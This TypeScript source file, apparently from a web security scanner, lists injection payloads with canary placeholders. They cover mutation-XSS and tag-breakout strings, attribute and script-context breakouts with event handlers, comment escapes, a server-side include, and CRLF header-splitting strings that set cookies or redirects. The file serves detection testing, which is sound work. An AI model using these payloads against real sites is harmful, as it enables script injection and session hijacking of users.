import type { Payloads } from './payloads.ts'

/** Texts that end the element or string that contains them, or that parse differently the second time. */
export const PARSING: Payloads = {
  'templates and mutation': [
    '<noscript><p title="</noscript><img src=x onerror=%run%>">',
    '<svg></p><style><a title="</style><img src=x onerror=%run%>">',
    '<svg><desc><table><thead title="</desc></svg><img src=x onerror=%run%>"></desc></svg><img src=x onerror=%run%>',
    '</textarea><img src=x onerror=%run%>',
    '</title><img src=x onerror=%run%>',
    '</style><img src=x onerror=%run%>',
    '<table><img src=x onerror=%run%>',
    '<template shadowrootmode=open><img src=x onerror=%run%></template>',
    '<select><option><style></option></select><img src=x onerror=%run%></style>',
    '<a title="&lt;img src=x onerror=%run%&gt;">x</a>',
    '&lt;script&gt;%run%&lt;/script&gt;',
  ],
  'attribute breakouts': [
    '" autofocus onfocus=%run% x="',
    '"><img src=x onerror=%run% alt="',
    'x autofocus onfocus=%run%',
    '"><img src=x onerror=%run%>',
    '" style="animation:a 1s" onanimationstart=%run%><style>@keyframes a{}</style><a x="',
    "'/autofocus/onfocus=%run%//x='",
    // In an attribute without quotes, the space ends the value.
    '&quot; autofocus onfocus=%run% x=&quot;',
    '"><iframe src="javascript:parent.canary(\'%id%\')"></iframe>',
  ],
  'script breakouts': [
    '</script><script>%run%</script>',
    '</script/><script>%run%</script>',
    '";%run%;"',
    "';%run%;'",
    '${%run%}',
    '<!--<script>"</script></script><script>%run%</script>',
    '"\n%run%\n"</script><script>%run%//',
    '\\u003c/script>%id%',
    '<\\/script><script>%id%',
    '{"%id%":1,"a":{}}',
  ],
  comments: [
    '--><script>%run%</script>',
    '--!><svg onload=%run%><!--',
    '<!--[if IE]><script>%run%</script><![endif]-->',
    '<!--#include virtual="%url%"-->',
    '<!-- <script>%run%</script> -->',
  ],
  'header splitting': [
    '\r\nContent-Type: text/html\r\n\r\n<script>%run%</script>',
    '\r\nRefresh: 0;url=https:%url%\r\nX: ',
    '\r\nLink: <https:%url%>; rel=preload; as=image\r\nX: ',
    '\r\nSet-Cookie: language=%id%',
    '\rX-Split: %id%',
    '%0d%0aX-Split: %id%',
    '\u560a\u560dX-Split: %id%',
  ],
}
